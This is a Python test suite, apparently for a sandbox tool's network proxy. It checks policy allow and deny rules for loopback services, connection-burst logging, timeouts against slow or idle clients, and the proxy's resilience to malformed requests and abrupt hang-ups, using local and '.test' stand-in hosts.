def _(r):
    expect("127.0.0.1 hello from the host's service" in r.output, r.output)
    # localhost inside may be ::1 first; 127.0.0.1 is what is listened on.
    expect(r.output.count("hello from the host's service / ping") == 2, r.output)
    e = logged(r, protocol="local", host="127.0.0.1", port=15432, outcome="tunnel", rule="p.sbpolicy:4:11")
    expect(e["bytes_up"] == 5 and e["bytes_down"] > 30, e)


@case("a loopback service allowed by name: localhost inside, on 127.0.0.1 and ::1",
      LOCAL_CLIENT + "127.0.0.1 ::1 localhost", policy='allow net "localhost:15432";\n')
def _(r):
    expect(r.output.count("hello from the host's service / ping") == 3, r.output)
    logged(r, protocol="local", host="localhost", outcome="tunnel")


@case("a loopback service denied over its allow is closed and told; other loopback ports reach nothing",
      LOCAL_CLIENT + "127.0.0.1; python3 client.py direct 127.0.0.1 6379",
      policy='allow net "127.0.0.1:15432";\ndeny net "127.0.0.1:15000-16000";\n', notices=True)
def _(r):
    expect("hello" not in r.output and "127.0.0.1 closed" in r.output, r.output)
    expect("refused 127.0.0.1:15432: denied by p.sbpolicy:5:10" in r.output, r.output)
    expect("refused: 111" in r.output, r.output)  # ECONNREFUSED: nothing listens on 6379 inside
    logged(r, protocol="local", outcome="refused")
    no_loopback(r)


@case("a block of loopback addresses is not listened on inside, and -v says why",
      LOCAL_CLIENT + "127.0.0.1", policy='allow net "127.0.0.0/8:15432";\n', args=["-v"], notices=True)
def _(r):
    expect("127.0.0.1 error 111" in r.output, r.output)
    expect("not listened on inside: 127.0.0.0/8:15432" in r.output and "a block of addresses" in r.output, r.output)


def check_burst(r, total, busy_ok):
    """Every connection of `client.py burst` got the answer its kind should
    have (or, when `busy_ok`, a 503 it read), and the log has exactly one
    line for each, with the matching outcome."""
    conns = [tuple(line.split()[1:]) for line in r.output.splitlines() if line.startswith("conn ")]
    counts = [line for line in r.output.splitlines() if line.startswith("counts ")]
    expect(len(conns) == total, f"{len(conns)} connections reported, not {total}: {r.output[-1500:]}")
    good = {"get": "200", "connect": "200", "denied": "403", "socks": "socks-0x00"}
    busy = {"get": "503", "connect": "503", "denied": "503", "socks": "socks-0x01"}
    bad = [c for c in conns if c[2] != good[c[1]] and not (busy_ok and c[2] == busy[c[1]])]
    expect(not bad, f"{len(bad)} connections without the answer they should have, e.g. {bad[:8]}; {counts}")
    outcome = {("get", "200"): "forwarded", ("connect", "200"): "tunnel", ("denied", "403"): "refused",
               ("socks", "socks-0x00"): "tunnel"}
    answered = Counter((port, outcome.get((kind, answer), "busy")) for port, kind, answer in conns)
    logged_ = Counter((e.get("client", "").rpartition(":")[2], e.get("outcome")) for e in r.net)
    expect(answered == logged_, f"the log does not match the connections: only answered {list((answered - logged_).items())[:8]}, "
                                f"only logged {list((logged_ - answered).items())[:8]}; {counts}")


BURST_PINS = ["--resolve", f"registry.pkgs.test:{UPSTREAM}", "--resolve", f"upstream.test:{UPSTREAM}"]


@case("NET-36 bursts of 2,000 connections at once: each answered (or 503), one log line each",
      f"{C} burst 2000 3", args=BURST_PINS, timeout=400)
def _(r):
    check_burst(r, 6000, busy_ok=True)


@case("NET-36 bursts of 2,000 connections within the limit: each served, one log line each",
      f"{C} burst 2000 2", args=BURST_PINS + ["--net-max-connections", "2500"], timeout=400, notices=True)
def _(r):
    # Where sbrun may not open enough descriptors it says so, and turns the
    # rest away.
    check_burst(r, 4000, busy_ok="connections at once, not 2500" in r.output)


@case("a head deadline restarts after a question: the sandbox was held still meanwhile",
      "python3 -c '\n"
      "import socket,subprocess\n"
      "b=socket.create_connection((\"127.0.0.1\",3128))\n"
      "subprocess.run([\"curl\",\"-s\",\"-m20\",\"-o\",\"/dev/null\",\"http://c.wild.test/\"])\n"
      "b.sendall(b\"GET http://registry.pkgs.test/late HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\\r\\n\")\n"
      "print(\"late\", (b.recv(100).split(b\"\\r\\n\")[0] or b\"closed\").decode())'",
      args=["--net-head-timeout", "1500"], users=("root",), tty=with_answers(["o"], delay=3.0))
def _(r):
    expect("allow once" in r.output, r.output)
    expect("late HTTP/1.1 200 OK" in r.output, r.output)


@case("NET-34 slowloris: a slow head is cut off", f"{C} slow", args=["--net-head-timeout", "500"])
def _(r):
    expect("cut off after" in r.output, r.output)


@case("NET-34 idle tunnels are closed",
      "python3 -c '\n"
      "import socket,time\n"
      "s=socket.create_connection((\"127.0.0.1\",3128));s.sendall(b\"CONNECT upstream.test:9443 HTTP/1.1\\r\\n\\r\\n\")\n"
      "print(s.recv(100).split(b\"\\r\\n\")[0]);s.settimeout(10);t=time.time();print(\"eof\",s.recv(10),round(time.time()-t))'",
      args=["--net-idle-timeout", "1000"])
def _(r):
    expect("200" in r.output and "eof b''" in r.output, r.output)
    logged(r, reason="idle timeout")


@case("NET-35 clients hanging up mid-download do not kill the proxy (SIGPIPE)",
      "python3 -c '\n"
      "import socket\n"
      "for i in range(30):\n"
      " s=socket.create_connection((\"127.0.0.1\",3128));s.sendall(b\"CONNECT upstream.test:9444 HTTP/1.1\\r\\n\\r\\n\")\n"
      " n=0\n"
      " while n<1000000: n+=len(s.recv(65536))\n"
      " s.setsockopt(socket.SOL_SOCKET,socket.SO_LINGER,b\"\\x01\\0\\0\\0\\0\\0\\0\\0\");s.close()\n"
      "print(\"hung up 30 times\")'; curl -sS -m5 http://registry.pkgs.test/alive",
      policy=NET + 'allow net "upstream.test:9444";\n')
def _(r):
    expect(r.code == 0 and "hung up 30 times" in r.output, r.output)
    expect("upstream registry.pkgs.test GET /alive" in r.output, r.output)


@case("a connection still being dialled when the command ends is logged, not lost",
      "curl -s -m5 -p http://blackhole.test:9443/ & sleep 0.5; echo leaving",
      policy='allow net "blackhole.test:9443";\n')
def _(r):
    expect("leaving" in r.output, r.output)
    e = logged(r, host="blackhole.test")
    expect(e.get("reason") == "still open when the run ended", e)


@case("NET-35 garbage, HTTP/2 preface and a CONNECT with a body do not hurt the proxy",
      "head -c 20000 /dev/urandom > junk; python3 -c '\n"
      "import socket\n"
      "for data in [open(\"junk\",\"rb\").read(), b\"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\", "
      "b\"CONNECT registry.pkgs.test:443 HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nhello\", "
      "b\"GET http://registry.pkgs.test/ HTTP/1.1\\r\\nConnection: connection, proxy-connection\\r\\n\\r\\n\"]:\n"
      " s=socket.create_connection((\"127.0.0.1\",3128));s.sendall(data);print(s.recv(100).split(b\"\\r\\n\")[0])\n"
      " s.close()'; curl -s -m5 http://registry.pkgs.test/after")
def _(r):
    expect("upstream registry.pkgs.test GET /after" in r.output, r.output)


world.main(__file__)
